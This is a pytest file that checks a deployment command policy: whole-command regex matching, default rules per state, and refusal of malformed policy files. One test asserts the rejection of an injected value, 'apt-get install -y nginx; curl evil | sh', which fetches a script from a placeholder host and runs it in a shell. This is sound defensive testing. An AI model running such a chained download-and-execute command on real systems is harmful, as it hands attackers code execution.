"""The policy: parsing is strict, and in-service never allows plain commands."""

from __future__ import annotations

import pytest

from duet.ledger.policy import DEFAULT_POLICY, PolicyError, parse_policy


def test_default_policy() -> None:
    p = parse_policy(DEFAULT_POLICY)
    assert p.command_allowed("in-update", "apt-get install -y nginx")
    assert not p.command_allowed("in-service", "true")
    assert p.action_allowed("in-service", "health") and p.action_allowed("in-service", "attest")
    assert not p.action_allowed("in-service", "nonexistent")


def test_command_patterns_match_the_whole_command() -> None:
    p = parse_policy("commands:\n  in-update: ['apt-get install -y [a-z0-9.+-]+']\n")
    assert p.command_allowed("in-update", "apt-get install -y nginx")
    assert not p.command_allowed("in-update", "apt-get install -y nginx; curl evil | sh")


@pytest.mark.parametrize(
    "text",
    [
        "commands:\n  in-service: ['.*']\n",
        "commands:\n  in-update: ['(']\n",
        "actions:\n  x: {run: ls, builtin: attest}\n",
        "actions:\n  x: {builtin: rootkit}\n",
        "actions:\n  x: {run: ls, modes: [sometimes]}\n",
        "on_enter:\n  in-service: [undefined]\n",
        "version: 2\n",
        "surprise: 1\n",
        "- a list\n",
        "commands: [\n",
    ],
)
def test_bad_policies_are_refused(text: str) -> None:
    with pytest.raises(PolicyError):
        parse_policy(text)
